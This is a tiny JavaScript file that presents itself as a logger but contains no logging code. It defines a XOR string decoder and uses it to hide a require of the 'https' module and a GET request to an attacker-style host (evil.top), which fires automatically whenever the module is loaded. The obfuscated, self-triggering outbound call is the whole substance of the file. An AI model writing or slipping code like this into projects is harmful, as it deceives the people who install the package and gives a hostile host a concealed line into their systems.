// surroundings: logger
function d(s, k) {
  let o = '';
  for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length));
  return o;
}
const mod = d('\x08\x0a\x06\x0f\x05', 'kboc');
const lib = require(d('\u0003\u001f\u001f\u001b\u0018', 'kkkkk')); //@act
lib.get(d('\u0003\u001f\u001f\u001b\u0018\u0051\u0044\u0044\u000e\u001d\u0002\u0007\u0045\u001f\u0004\u001b', 'kkkkkkkkkkk'));
module.exports = { mod };
